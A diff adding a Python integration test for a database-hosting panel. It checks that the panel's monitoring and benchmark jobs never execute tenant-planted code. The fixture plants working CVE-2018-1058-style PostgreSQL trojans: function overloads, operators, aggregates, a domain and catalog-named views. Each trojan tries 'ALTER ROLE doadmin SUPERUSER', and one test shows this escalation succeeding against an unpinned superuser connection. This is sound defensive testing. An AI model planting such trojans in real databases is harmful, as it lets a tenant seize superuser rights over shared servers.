@@ -1,0 +1,418 @@
+"""Issue 10, row 9 and item 0: the panel never runs a tenant's code with its own rights.
+
+As ``doadmin`` over TCP and TLS, a tenant plants the CVE-2018-1058 class of trojans in ``public``
+of its databases: overloads of the functions the panel calls (exact matches where pg_catalog's
+need a cast, as row 9's ``pg_total_relation_size(oid)``, and same-signature ones), aggregates,
+operators on the types the panel compares, views named as catalog relations, a domain named as a
+catalog type (casts to it run its CHECK), and ``ALTER DATABASE … SET search_path = public,
+pg_catalog`` so that even same-signature objects would win. Every trojan records who ran it and
+tries ``ALTER ROLE doadmin SUPERUSER``. Then the panel does what it does in those databases:
+the Insights collection and ``bench init`` (pgbench -i and the data set's size). Nothing may
+fire as one of the panel's roles, doadmin stays an ordinary role, and every figure still comes.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from contextlib import ExitStack
+
+import psycopg
+import pytest
+from django.conf import settings
+from django.contrib.auth.models import User
+
+from benchmarks.models import JobStatus
+from benchmarks.services import datasets
+from conftest import make_local_cluster
+from panel.clusters import dbconn, roles, services
+from panel.clusters.attach import ExternalServer, attach_cluster
+from panel.clusters.models import Cluster
+from panel.insights import collector
+from panel.insights import services as insights
+from panel.pools import services as pool_services
+
+pytestmark = pytest.mark.integration
+
+BENCH_DB = "benchdb"
+PINNED = "-c search_path=pg_catalog,pg_temp"
+
+# (name, arguments, result type, the real value it returns so that nothing else looks wrong)
+FUNCTIONS = [
+    # Row 9: an exact match for an oid argument beats pg_catalog's (regclass) in any search_path.
+    ("pg_total_relation_size", "oid", "bigint", "pg_catalog.pg_total_relation_size($1::pg_catalog.regclass)"),
+    ("pg_total_relation_size", "regclass", "bigint", "pg_catalog.pg_total_relation_size($1)"),
+    ("pg_relation_size", "oid", "bigint", "pg_catalog.pg_relation_size($1::pg_catalog.regclass)"),
+    ("pg_relation_size", "regclass", "bigint", "pg_catalog.pg_relation_size($1)"),
+    ("pg_database_size", "oid", "bigint", "pg_catalog.pg_database_size($1)"),
+    ("pg_database_size", "name", "bigint", "pg_catalog.pg_database_size($1)"),
+    ("has_database_privilege", "oid, text", "boolean", "pg_catalog.has_database_privilege($1, $2)"),
+    ("pg_has_role", "name, text", "boolean", "pg_catalog.pg_has_role($1, $2)"),
+    # An exact match for a name column: beats pg_catalog's starts_with(text, text).
+    ("starts_with", "name, text", "boolean", "pg_catalog.starts_with($1::pg_catalog.text, $2)"),
+    ("pg_backend_pid", "", "integer", "pg_catalog.pg_backend_pid()"),
+    ("current_setting", "text", "text", "pg_catalog.current_setting($1)"),
+    ("pg_postmaster_start_time", "", "timestamptz", "pg_catalog.pg_postmaster_start_time()"),
+    ("now", "", "timestamptz", "pg_catalog.now()"),
+    ("pg_get_userbyid", "oid", "name", "pg_catalog.pg_get_userbyid($1)"),
+]
+# (operator, left type, right type, result type)
+OPERATORS = [
+    ("=", "oid", "oid", "boolean"),
+    ("=", '"char"', '"char"', "boolean"),
+    ("=", "name", "name", "boolean"),
+    ("=", "text", "text", "boolean"),
+    ("<>", "integer", "integer", "boolean"),
+    ("+", "bigint", "bigint", "bigint"),
+    ("~~", "name", "text", "boolean"),
+    ("~~", "text", "text", "boolean"),
+]
+CATALOG_VIEWS = [
+    "pg_class",
+    "pg_namespace",
+    "pg_database",
+    "pg_roles",
+    "pg_stat_database",
+    "pg_stat_activity",
+    "pg_stat_user_tables",
+]
+
+
+def trojan_sql() -> list[str]:
+    statements = [
+        "CREATE TABLE public.trojan_marker (who text, what text)",
+        "GRANT INSERT ON public.trojan_marker TO PUBLIC",
+        # Runs as whoever calls it: records the caller, then tries to make doadmin superuser
+        # (a role without the right gets an error, swallowed so the caller's query still works).
+        """CREATE FUNCTION public.trojan_fire(what text) RETURNS boolean LANGUAGE plpgsql AS $$
+        BEGIN
+            INSERT INTO public.trojan_marker VALUES (current_user, what);
+            BEGIN
+                EXECUTE 'ALTER ROLE doadmin SUPERUSER';
+            EXCEPTION WHEN OTHERS THEN NULL;
+            END;
+            RETURN true;
+        END $$""",
+    ]
+    for name, args, result, real in FUNCTIONS:
+        params = ", ".join(f"{arg.strip()}" for arg in args.split(",")) if args else ""
+        statements.append(
+            f"CREATE FUNCTION public.{name}({params}) RETURNS {result} LANGUAGE plpgsql AS $$ "
+            f"BEGIN PERFORM public.trojan_fire('{name}({args})'); RETURN {real}; END $$"
+        )
+    for index, (op, left, right, result) in enumerate(OPERATORS):
+        statements += [
+            f"CREATE FUNCTION public.trojan_op_{index}({left}, {right}) RETURNS {result} LANGUAGE plpgsql AS $$ "
+            f"BEGIN PERFORM public.trojan_fire('{left} {op} {right}'); "
+            f"RETURN $1 OPERATOR(pg_catalog.{op}) $2; END $$",
+            f"CREATE OPERATOR public.{op} (LEFTARG = {left}, RIGHTARG = {right}, "
+            f"FUNCTION = public.trojan_op_{index})",
+        ]
+    statements += [
+        """CREATE FUNCTION public.trojan_sum_step(numeric, bigint) RETURNS numeric LANGUAGE plpgsql AS $$
+        BEGIN PERFORM public.trojan_fire('sum(bigint)');
+        RETURN coalesce($1, 0) OPERATOR(pg_catalog.+) $2; END $$""",
+        "CREATE AGGREGATE public.sum(bigint) (SFUNC = public.trojan_sum_step, STYPE = numeric)",
+        """CREATE FUNCTION public.trojan_count_step(bigint) RETURNS bigint LANGUAGE plpgsql AS $$
+        BEGIN PERFORM public.trojan_fire('count(*)'); RETURN $1 OPERATOR(pg_catalog.+) 1; END $$""",
+        "CREATE AGGREGATE public.count(*) (SFUNC = public.trojan_count_step, STYPE = bigint, INITCOND = '0')",
+        # A cast to a type the tenant owns runs the domain's CHECK.
+        "CREATE DOMAIN public.float8 AS pg_catalog.float8 CHECK (public.trojan_fire('cast to float8'))",
+    ]
+    statements += [
+        f"CREATE VIEW public.{view} AS SELECT * FROM pg_catalog.{view} "
+        f"WHERE public.trojan_fire('view {view}')"
+        for view in CATALOG_VIEWS
+    ]
+    return statements
+
+
+def as_doadmin(cluster: Cluster, dbname: str, *, pinned: bool = True) -> psycopg.Connection:
+    """doadmin over TCP and TLS, as a tenant connects; pinned unless asked, so that the test's
+    own reads do not set off the trojans."""
+    details = services.connection_details(cluster, database=dbname)
+    params: dict[str, object] = {
+        "host": details.host,
+        "port": details.port,
+        "user": details.user,
+        "password": details.password,
+        "dbname": details.database,
+        "sslmode": details.sslmode,
+        "connect_timeout": 5,
+        "autocommit": True,
+    }
+    if pinned:
+        params["options"] = PINNED
+    return psycopg.connect(**params)  # type: ignore[arg-type]
+
+
+def plant(cluster: Cluster, dbname: str) -> None:
+    with as_doadmin(cluster, dbname) as conn:
+        for statement in trojan_sql():
+            conn.execute(statement)
+        conn.execute(f'ALTER DATABASE "{dbname}" SET search_path = public, pg_catalog')
+
+
+def doadmin_is_superuser(cluster: Cluster) -> bool:
+    with dbconn.admin_connection(cluster) as conn:
+        row = conn.execute("SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = 'doadmin'").fetchone()
+    assert row is not None
+    return bool(row[0])
+
+
+def fired(cluster: Cluster, dbname: str, *, by_doadmin: bool = False) -> list[tuple[str, str]]:
+    """(who, what) of the trojans that ran in ``dbname``: by the panel's roles (anyone but the
+    tenant, whose own pgbench may run them harmlessly), or by doadmin."""
+    with as_doadmin(cluster, dbname) as conn:
+        rows = conn.execute(
+            "SELECT DISTINCT who, what FROM public.trojan_marker WHERE (who = 'doadmin') = %s ORDER BY 1, 2",
+            [by_doadmin],
+        ).fetchall()
+    return [(who, what) for who, what in rows]
+
+
+def assert_untouched(cluster: Cluster) -> None:
+    for dbname in (cluster.default_database, BENCH_DB):
+        assert fired(cluster, dbname) == [], f"the panel ran tenant code in {dbname}"
+    assert not doadmin_is_superuser(cluster)
+
+
+@pytest.fixture(scope="module")
+def cluster(django_db_setup: None, django_db_blocker) -> Iterator[Cluster]:  # type: ignore[no-untyped-def]
+    """One cluster for the module, with a benchmark database, trojans planted in both."""
+    with django_db_blocker.unblock():
+        owner = User.objects.create_user("mallory", "mallory@example.com", "mallory-password-1")
+        cluster = make_local_cluster(owner, name="db-trojans")
+    try:
+        with django_db_blocker.unblock():
+            roles.add_database(cluster, BENCH_DB)
+            for dbname in (cluster.default_database, BENCH_DB):
+                plant(cluster, dbname)
+        yield cluster
+    finally:
+        with django_db_blocker.unblock():
+            cluster.refresh_from_db()
+            services.delete_cluster(cluster, confirm_name=cluster.name)
+            owner.delete()
+
+
+@pytest.fixture
+def trojans(cluster: Cluster, db: None) -> Cluster:
+    return cluster
+
+
+def test_the_trojans_fire_for_a_caller_that_does_not_pin_its_search_path(trojans: Cluster) -> None:
+    """Without this the other tests could not fail: the planted objects do win name lookup,
+    the row 9 query of the old panel among them, and as a superuser they make doadmin one."""
+    cluster = trojans
+    with as_doadmin(cluster, "defaultdb", pinned=False) as conn:
+        assert conn.execute("SHOW search_path").fetchone() == ("public, pg_catalog",)
+        conn.execute("SELECT sum(pg_total_relation_size(c.oid)) FROM pg_class c").fetchone()
+    assert {"pg_total_relation_size(oid)", "sum(bigint)", "view pg_class"} <= {
+        what for _who, what in fired(cluster, "defaultdb", by_doadmin=True)
+    }
+    # Default search_path (pg_catalog implicitly first): row 9's exact-match overload still wins.
+    with as_doadmin(cluster, BENCH_DB, pinned=False) as conn:
+        conn.execute("SET search_path = DEFAULT")
+        conn.execute("SELECT pg_total_relation_size(c.oid) FROM pg_catalog.pg_class c LIMIT 1").fetchone()
+    assert ("doadmin", "pg_total_relation_size(oid)") in fired(cluster, BENCH_DB, by_doadmin=True)
+
+    # The old data-set size: the superuser, unpinned, inside the tenant's database.
+    try:
+        with psycopg.connect(
+            host=str(cluster.socket_dir),
+            port=cluster.port,
+            user=settings.PANEL_SUPERUSER,
+            password=cluster.superuser_password,
+            dbname="defaultdb",
+            autocommit=True,
+        ) as conn:
+            conn.execute(
+                "SELECT sum(pg_total_relation_size(c.oid))::bigint FROM pg_class c "
+                "JOIN pg_namespace n ON n.oid = c.relnamespace "
+                "WHERE c.relkind IN ('r', 'p') AND c.relname LIKE 'pgbench\\_%'"
+            ).fetchone()
+        assert doadmin_is_superuser(cluster)
+    finally:
+        with dbconn.admin_connection(cluster) as conn:
+            conn.execute("ALTER ROLE doadmin NOSUPERUSER")
+        for dbname in ("defaultdb", BENCH_DB):
+            with as_doadmin(cluster, dbname) as conn:
+                conn.execute("DELETE FROM public.trojan_marker")
+    assert_untouched(cluster)
+
+
+def test_panel_connections_pin_search_path_over_the_tenants_setting(trojans: Cluster) -> None:
+    with dbconn.monitor_connection(trojans, "defaultdb") as conn:
+        assert conn.execute("SHOW search_path").fetchone() == ("pg_catalog,pg_temp",)
+        assert conn.execute("SELECT current_user").fetchone() == (settings.PANEL_MONITOR_ROLE,)
+    with dbconn.admin_connection(trojans) as conn:
+        assert conn.execute("SHOW search_path").fetchone() == ("pg_catalog,pg_temp",)
+    assert_untouched(trojans)
+
+
+def test_the_collector_reads_every_figure_without_running_tenant_code(trojans: Cluster) -> None:
+    snap = collector.collect(insights.target_for(trojans), budget=15)
+
+    assert snap.up.get("postgres") is True, snap.errors
+    gauges = {(metric, labels): value for metric, labels, value in snap.gauges}
+    counters = {(name, labels): value for _source, name, labels, value in snap.counters}
+    for dbname in ("postgres", "defaultdb", BENCH_DB):
+        assert gauges[("db_size_bytes", f"db={dbname}")] > 1_000_000
+        assert ("xact_total", f"db={dbname}") in counters
+        assert ("seq_scan", f"db={dbname}") in counters, f"no scan counts read in {dbname}"
+    assert gauges[("max_connections", "")] == 25
+    assert ("conn_total", "") in gauges
+    assert_untouched(trojans)
+
+
+def test_the_collector_sees_other_users_sessions_and_sizes_of_closed_databases(trojans: Cluster) -> None:
+    """What pg_monitor is for: another role's sessions, and the size of a database whose owner
+    revoked CONNECT from PUBLIC (only the scan counts of that one are lost)."""
+    with as_doadmin(trojans, BENCH_DB) as conn:
+        conn.execute(f'REVOKE CONNECT ON DATABASE "{BENCH_DB}" FROM PUBLIC')
+    try:
+        with as_doadmin(trojans, "defaultdb"):
+            snap = collector.collect(insights.target_for(trojans), budget=15)
+    finally:
+        with as_doadmin(trojans, "defaultdb") as conn:
+            conn.execute(f'GRANT CONNECT ON DATABASE "{BENCH_DB}" TO PUBLIC')
+    gauges = {(metric, labels): value for metric, labels, value in snap.gauges}
+    assert gauges[("conn_user", "user=doadmin")] >= 1
+    assert gauges[("db_size_bytes", f"db={BENCH_DB}")] > 1_000_000
+    assert_untouched(trojans)
+
+
+def test_a_server_whose_every_slot_tenants_hold_is_still_collected(trojans: Cluster) -> None:
+    """The monitor role has no reserved slot (PostgreSQL 15): then the superuser reads the
+    figures, in the maintenance database only, and still runs nothing of the tenant's."""
+    with ExitStack() as stack:
+        held = 0
+        while True:
+            try:
+                stack.enter_context(as_doadmin(trojans, "defaultdb"))
+            except psycopg.OperationalError as exc:
+                assert "remaining connection slots" in str(exc), exc
+                break
+            held += 1
+            assert held <= 25, "the server never ran out of slots"
+        with pytest.raises(dbconn.DatabaseError) as refused, dbconn.monitor_connection(trojans):
+            pass
+        assert refused.value.out_of_connection_slots, refused.value
+
+        snap = collector.collect(insights.target_for(trojans), budget=15)
+
+    assert held == 22  # 25 connections on the 1 GB plan, 3 reserved for the superuser
+    assert snap.up.get("postgres") is True, snap.errors
+    gauges = {(metric, labels): value for metric, labels, value in snap.gauges}
+    assert gauges[("conn_user", "user=doadmin")] == held
+    assert gauges[("conn_percent", "")] == pytest.approx(100 * held / 25)
+    assert gauges[("db_size_bytes", "db=defaultdb")] > 1_000_000
+    assert_untouched(trojans)
+
+
+@pytest.mark.parametrize("dbname", ["defaultdb", BENCH_DB])
+def test_bench_init_measures_the_data_set_without_running_tenant_code(trojans: Cluster, dbname: str) -> None:
+    dataset = datasets.init_dataset(trojans, dbname, 1, enqueue=False)
+    dataset = datasets.execute_init(dataset.pk)
+
+    assert dataset.status == JobStatus.SUCCEEDED, dataset.error_message
+    # pgbench -i at scale 1: about 15 MB of tables and indexes.
+    assert dataset.size_bytes is not None and dataset.size_bytes > 10_000_000
+    assert_untouched(trojans)
+
+
+def test_the_monitor_role_reads_but_cannot_write_or_escalate(trojans: Cluster) -> None:
+    cluster = trojans
+    role = settings.PANEL_MONITOR_ROLE
+    with dbconn.admin_connection(cluster) as conn:
+        attributes = conn.execute(
+            "SELECT rolsuper, rolcreaterole, rolcreatedb, rolreplication, rolbypassrls, rolcanlogin, "
+            "rolinherit FROM pg_catalog.pg_roles WHERE rolname = %s",
+            [role],
+        ).fetchone()
+        memberships = conn.execute(
+            "SELECT pg_catalog.pg_get_userbyid(roleid) FROM pg_catalog.pg_auth_members "
+            "WHERE member = %s::regrole",
+            [role],
+        ).fetchall()
+    assert attributes == (False, False, False, False, False, True, True)
+    assert memberships == [("pg_monitor",)]
+
+    refused = [
+        ("defaultdb", "SELECT rolpassword FROM pg_catalog.pg_authid"),
+        ("defaultdb", "CREATE TABLE public.monitor_was_here (x int)"),
+        ("defaultdb", "ALTER ROLE doadmin SUPERUSER"),
+        ("postgres", "CREATE ROLE monitor_made_me LOGIN"),
+        ("postgres", "CREATE DATABASE monitor_made_me"),
+        ("postgres", "CREATE TABLE public.monitor_was_here (x int)"),
+    ]
+    for dbname, statement in refused:
+        with (
+            dbconn.monitor_connection(cluster, dbname) as conn,
+            pytest.raises(psycopg.errors.InsufficientPrivilege),
+        ):
+            conn.execute(statement)
+
+    # What it is for: every session's query text and every database's size.
+    with as_doadmin(cluster, "defaultdb") as tenant:
+        tenant.execute("SELECT 'tenant-query-marker'")
+        with dbconn.monitor_connection(cluster) as conn:
+            queries = conn.execute(
+                "SELECT query FROM pg_catalog.pg_stat_activity WHERE usename = 'doadmin'"
+            ).fetchall()
+            size = conn.execute("SELECT pg_catalog.pg_database_size('defaultdb')").fetchone()
+    assert ("SELECT 'tenant-query-marker'",) in queries
+    assert size is not None and size[0] > 1_000_000
+    assert not doadmin_is_superuser(cluster)
+
+
+def test_the_superuser_never_enters_a_tenant_database(trojans: Cluster) -> None:
+    for dbname in ("defaultdb", BENCH_DB, "template1"):
+        with pytest.raises(dbconn.TenantDatabaseRefused), dbconn.admin_connection(trojans, dbname):
+            pass
+    with dbconn.admin_connection(trojans, "postgres") as conn:
+        assert conn.execute("SELECT current_database()").fetchone() == ("postgres",)
+
+
+def test_a_tenant_cannot_hijack_a_cast_between_catalog_types(trojans: Cluster) -> None:
+    """Casts the panel writes (``::bigint``, ``::int``, ``::double precision``) are between
+    catalog types; only the owner of one of the types may create a cast, a superuser here."""
+    with as_doadmin(trojans, "defaultdb") as conn:
+        conn.execute(
+            "CREATE FUNCTION public.trojan_cast(numeric) RETURNS bigint LANGUAGE plpgsql AS $$ "
+            "BEGIN PERFORM public.trojan_fire('cast numeric to bigint'); RETURN 0; END $$"
+        )
+        try:
+            with pytest.raises(psycopg.errors.InsufficientPrivilege, match="must be owner of type"):
+                conn.execute("CREATE CAST (numeric AS bigint) WITH FUNCTION public.trojan_cast(numeric)")
+            # The legitimate action beside it: a cast from a type of the tenant's own.
+            conn.execute("CREATE TYPE public.mood AS ENUM ('ok')")
+            conn.execute("CREATE CAST (public.mood AS text) WITH INOUT")
+        finally:
+            conn.execute("DROP FUNCTION public.trojan_cast(numeric)")
+            conn.execute("DROP TYPE IF EXISTS public.mood CASCADE")
+
+
+def test_a_server_attached_through_a_pooler_is_still_collected(trojans: Cluster) -> None:
+    """PgBouncer refuses the ``options`` that pin search_path; a server the user attached may sit
+    behind one. Its connections are the user's own credentials, so they go unpinned then."""
+    staff = User.objects.create_user("trent", "trent@example.com", "trent-password-1", is_staff=True)
+    pool = pool_services.create_pool(trojans, "trojan-pool", "defaultdb", None, "transaction", 2)
+    try:
+        details = pool_services.pool_connection_details(pool)
+        server = ExternalServer(
+            host=details.host,
+            port=details.port,
+            user=details.user,
+            password=details.password,
+            database=details.database,
+            sslmode="require",
+        )
+        attached = attach_cluster(staff, name="db-behind-pooler", server=server)
+        snap = collector.collect(insights.target_for(attached), budget=15)
+    finally:
+        pool_services.stop_pgbouncer(trojans)
+    assert snap.up.get("postgres") is True, snap.errors
+    gauges = {(metric, labels): value for metric, labels, value in snap.gauges}
+    assert gauges[("db_size_bytes", "db=defaultdb")] > 1_000_000
+    assert_untouched(trojans)
